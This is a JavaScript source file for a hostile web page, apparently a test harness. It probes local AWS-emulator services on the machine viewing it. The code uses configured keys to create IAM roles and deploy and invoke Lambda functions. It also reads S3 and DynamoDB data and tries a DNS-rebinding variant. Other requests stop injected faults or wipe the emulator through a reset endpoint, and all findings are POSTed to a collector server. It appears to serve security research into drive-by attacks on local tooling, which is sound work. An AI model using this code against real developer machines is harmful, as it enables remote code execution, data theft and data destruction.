// What a page can do to servers of the machine that shows it. `config.plan` names the function that runs. The page
// tells its findings to a server of its own, which is all that a real one could do with them.
"use strict";

const PATIENCE_MS = 5000;
const findings = [];
const text = new TextEncoder();

function hex(bytes) {
  return Array.from(new Uint8Array(bytes), (byte) => byte.toString(16).padStart(2, "0")).join("");
}

async function sha256(data) {
  return crypto.subtle.digest("SHA-256", typeof data === "string" ? text.encode(data) : data);
}

async function hmac(key, message) {
  const raw = typeof key === "string" ? text.encode(key) : key;
  const imported = await crypto.subtle.importKey("raw", raw, { name: "HMAC", hash: "SHA-256" }, false, ["sign"]);
  return crypto.subtle.sign("HMAC", imported, text.encode(message));
}

function encode(value) {
  return encodeURIComponent(value).replace(/[!'()*]/g, (c) => "%" + c.charCodeAt(0).toString(16).toUpperCase());
}

// A request signed by Signature Version 4, in its headers, or in its query so that no preflight precedes it.
async function signed({ method, url, service, body = "", headers = {}, key, inQuery = false }) {
  const target = new URL(url);
  const time = new Date().toISOString().replace(/[:-]|\.\d{3}/g, "");
  const scope = `${time.slice(0, 8)}/${config.region}/${service}/aws4_request`;
  const hash = service === "s3" && inQuery ? "UNSIGNED-PAYLOAD" : hex(await sha256(body));
  const toSign = { host: target.host };
  if (inQuery) {
    target.searchParams.set("X-Amz-Algorithm", "AWS4-HMAC-SHA256");
    target.searchParams.set("X-Amz-Credential", `${key.id}/${scope}`);
    target.searchParams.set("X-Amz-Date", time);
    target.searchParams.set("X-Amz-Expires", "300");
    target.searchParams.set("X-Amz-SignedHeaders", "host");
    if (key.token) target.searchParams.set("X-Amz-Security-Token", key.token);
  } else {
    headers["x-amz-date"] = toSign["x-amz-date"] = time;
    headers["x-amz-content-sha256"] = toSign["x-amz-content-sha256"] = hash;
    if (key.token) headers["x-amz-security-token"] = toSign["x-amz-security-token"] = key.token;
    if (headers["x-amz-target"]) toSign["x-amz-target"] = headers["x-amz-target"];
  }
  const query = [...target.searchParams].map(([name, value]) => `${encode(name)}=${encode(value)}`).sort();
  target.search = query.join("&");
  const names = Object.keys(toSign).sort();
  const canonical = [
    method,
    target.pathname,
    query.join("&"),
    ...names.map((name) => `${name}:${toSign[name]}`),
    "",
    names.join(";"),
    hash,
  ].join("\n");
  const stringToSign = ["AWS4-HMAC-SHA256", time, scope, hex(await sha256(canonical))].join("\n");
  let secret = "AWS4" + key.secret;
  for (const part of scope.split("/")) secret = await hmac(secret, part);
  const signature = hex(await hmac(secret, stringToSign));
  if (inQuery) {
    target.search += `&X-Amz-Signature=${signature}`;
  } else {
    headers.authorization =
      `AWS4-HMAC-SHA256 Credential=${key.id}/${scope}, SignedHeaders=${names.join(";")}, Signature=${signature}`;
  }
  return { url: target.href, options: { method, headers, ...(body ? { body } : {}) } };
}

function found(name, what) {
  findings.push({ name, ...what });
}

// Fetches, and tells what the page may read of the answer.
async function attempt(name, url, options = {}) {
  try {
    const answer = await fetch(url, { signal: AbortSignal.timeout(PATIENCE_MS), ...options });
    const body = await answer.text();
    found(name, { type: answer.type, status: answer.status, body: body.slice(0, 300) });
  } catch (error) {
    found(name, { type: "error", status: 0, body: String(error) });
  }
}

async function attemptSigned(name, request) {
  try {
    const { url, options } = await signed(request);
    // A body of text/plain is one that HTML forms can send as well.
    const simple = request.inQuery && ["GET", "POST"].includes(request.method);
    await attempt(name, url, simple ? { ...options, headers: {}, mode: "no-cors" } : options);
  } catch (error) {
    found(name, { type: "unsent", status: 0, body: String(error) });
  }
}

// An element that loads something, whatever comes of it.
function load(name, tag, attributes) {
  return new Promise((resolve) => {
    const element = document.createElement(tag);
    const end = (type) => () => {
      found(name, { type, status: 0, body: element.width ? `${element.width} wide` : "" });
      resolve();
    };
    element.onload = end("loaded");
    element.onerror = end("error");
    setTimeout(end("unanswered"), PATIENCE_MS);
    Object.assign(element, attributes);
    document.body.append(element);
  });
}

function webSocket(name, url) {
  return new Promise((resolve) => {
    const end = (type) => {
      found(name, { type, status: 0, body: "" });
      resolve();
    };
    try {
      const socket = new WebSocket(url);
      socket.onopen = () => end("opened");
      socket.onerror = () => end("error");
      setTimeout(() => end("unanswered"), PATIENCE_MS);
    } catch (error) {
      end("error");
    }
  });
}

function eventSource(name, url) {
  return new Promise((resolve) => {
    const source = new EventSource(url);
    const end = (type) => {
      source.close();
      found(name, { type, status: 0, body: "" });
      resolve();
    };
    source.onopen = () => end("opened");
    source.onerror = () => end("error");
    setTimeout(() => end("unanswered"), PATIENCE_MS);
  });
}

// A form that is sent into a frame of this page.
function form(name, url, fields) {
  return new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.name = `frame-${findings.length}-${Math.random()}`;
    const element = document.createElement("form");
    Object.assign(element, { method: "POST", action: url, target: frame.name, enctype: "text/plain" });
    for (const [field, value] of Object.entries(fields)) {
      const input = document.createElement("input");
      Object.assign(input, { type: "hidden", name: field, value });
      element.append(input);
    }
    document.body.append(frame, element);
    frame.onload = () => {
      found(name, { type: "sent", status: 0, body: "" });
      resolve();
    };
    setTimeout(frame.onload, PATIENCE_MS);
    element.submit();
  });
}

function xhr(name, method, url) {
  return new Promise((resolve) => {
    const request = new XMLHttpRequest();
    request.timeout = PATIENCE_MS;
    request.onloadend = () => {
      found(name, { type: "xhr", status: request.status, body: request.responseText.slice(0, 300) });
      resolve();
    };
    request.open(method, url);
    request.send();
  });
}

function json(service, path, method, body) {
  return { service, method, url: config.emulator + path, body: JSON.stringify(body) };
}

// Runs code on the machine: a role, a function of the page's own code, an invocation.
async function runCode(key, how) {
  const suffix = `${key.name}-${how}`;
  const inQuery = how === "query";
  const role = { AssumeRolePolicyDocument: JSON.stringify(config.trustPolicy), RoleName: `attack-${suffix}` };
  const createRole = new URLSearchParams({ Action: "CreateRole", Version: "2010-05-08", ...role }).toString();
  const form = { "content-type": "application/x-www-form-urlencoded" };
  await attemptSigned(`create a role with ${suffix}`, {
    method: "POST", url: config.emulator + "/", service: "iam", body: createRole, headers: form, key, inQuery,
  });
  const name = `attack-${suffix}`;
  await attemptSigned(`create a function with ${suffix}`, {
    ...json("lambda", "/2015-03-31/functions", "POST", {
      FunctionName: name,
      Role: `arn:aws:iam::${key.account ?? config.account}:role/attack-${suffix}`,
      Runtime: "provided.al2023",
      Handler: "bootstrap",
      Code: { ZipFile: config.zip },
    }),
    key,
    inQuery,
  });
  await attemptSigned(`invoke it with ${suffix}`, {
    ...json("lambda", `/2015-03-31/functions/${name}/invocations`, "POST", {}), key, inQuery,
  });
}

async function readWith(key) {
  for (const inQuery of [false, true]) {
    const how = `${key.name}, signed in the ${inQuery ? "query" : "headers"}`;
    const read = (what, request) => attemptSigned(`${what} with ${how}`, { ...request, key, inQuery });
    await read("list buckets", { method: "GET", url: config.emulator + "/", service: "s3" });
    await read("get an object", { method: "GET", url: `${config.emulator}/${config.bucket}/${config.key}`, service: "s3" });
    await read("list functions", { method: "GET", url: `${config.emulator}/2015-03-31/functions`, service: "lambda" });
    await read("scan a table", {
      ...json("dynamodb", "/", "POST", { TableName: config.table }),
      headers: { "content-type": "application/x-amz-json-1.0", "x-amz-target": "DynamoDB_20120810.Scan" },
    });
  }
  await attemptSigned(`put an object with ${key.name}`, {
    method: "PUT", url: `${config.emulator}/${config.bucket}/attack-${key.name}`, service: "s3", body: "attack", key,
  });
}

async function withoutKeys(base) {
  for (const path of config.paths) {
    await attempt(`GET ${path}`, base + path);
    await attempt(`POST ${path}`, base + path, { method: "POST", body: "{}", mode: "no-cors" });
    await attempt(`PUT ${path}`, base + path, { method: "PUT", body: "{}" });
  }
  await attempt("DELETE /", base + "/", { method: "DELETE" });
  await attempt("call an action", base + "/", { method: "POST", body: "Action=ListRoles&Version=2010-05-08" });
  await attempt("scan a table without a key", base + "/", {
    method: "POST",
    body: JSON.stringify({ TableName: config.table }),
    headers: { "content-type": "application/x-amz-json-1.0", "x-amz-target": "DynamoDB_20120810.Scan" },
  });
  await xhr("XMLHttpRequest GET", "GET", base + "/");
  await load("an image", "img", { src: `${base}/${config.bucket}/${config.key}?image` });
  await load("a script", "script", { src: base + "/_ministack/health?script" });
  await load("a style sheet", "link", { rel: "stylesheet", href: base + "/_ministack/health?style" });
  await load("a frame", "iframe", { src: base + "/_ministack/health?frame" });
  await form("a form", base + "/_ministack/config?form", { "{\"a\": \"": "\"}" });
  await eventSource("an event source", base + "/_ministack/health?events");
  navigator.sendBeacon(base + "/_ministack/config?beacon", "{}");
  const socket = base.replace("http:", "ws:");
  await webSocket("a WebSocket", socket + "/");
  await webSocket("a WebSocket API", socket + "/_aws/execute-api/00000000/$default");
}

async function pollRuntime(base) {
  const api = base + "/2018-06-01/runtime";
  await attempt("next invocation", api + "/invocation/next");
  await attempt("blind next invocation", api + "/invocation/next", { mode: "no-cors" });
  await attempt("init error", api + "/init/error", { method: "POST", body: "{}", mode: "no-cors" });
  await attempt("response", api + "/invocation/1/response", { method: "POST", body: "{}", mode: "no-cors" });
  await attempt("root", base + "/");
}

async function controlChaos(base) {
  await attempt("figures", base + "/");
  await attempt("stop the faults", base + "/stop", { method: "POST", mode: "no-cors" });
  await attempt("delete the faults", base + "/", { method: "DELETE" });
}

async function callApi(base) {
  await attempt("API: fetch", base + "/");
  await attempt("API: blind fetch", base + "/?blind", { mode: "no-cors" });
  await attempt("API: POST", base + "/orders", { method: "POST", body: "{}" });
  await attempt("API: POST of JSON", base + "/orders", {
    method: "POST", body: "{}", headers: { "content-type": "application/json" },
  });
  await load("API: an image", "img", { src: base + "/image.jpg" });
  await load("API: a frame", "iframe", { src: base + "/frame.jpg" });
}

async function wipe(base) {
  await attempt("reset", base + "/_ministack/reset", { method: "POST", body: "", mode: "no-cors" });
}

const plans = {
  // A page of another origin.
  async foreign() {
    for (const key of config.keys) {
      await runCode(key, "headers");
      await runCode(key, "query");
      await readWith(key);
    }
    await withoutKeys(config.emulator);
    for (const base of config.others) {
      await pollRuntime(base);
      await controlChaos(base);
    }
    await callApi(config.shop);
    await callApi(config.orders);
    await callApi(config.feed);
  },

  // A page that needs no key and no answer.
  async wipe() {
    await wipe(config.emulator);
  },

  // A page whose own origin has become the stage's.
  async rebound() {
    const base = location.origin;
    config.emulator = base;
    for (const key of config.keys) {
      await runCode(key, "headers");
      await readWith(key);
    }
    await withoutKeys(base);
    await pollRuntime(base);
    await controlChaos(base);
    await callApi(base);
    await wipe(base);
  },

  // Whoever the owner of the stage lets in.
  async guest() {
    for (const [name, url, options] of config.requests) await attempt(name, url, options);
  },
};

(async () => {
  await plans[config.plan]();
  const report = JSON.stringify({ origin: location.origin, secure: isSecureContext, findings });
  await fetch(config.collector, { method: "POST", body: report, mode: "no-cors" });
  if (config.next) location.href = config.next;
})();
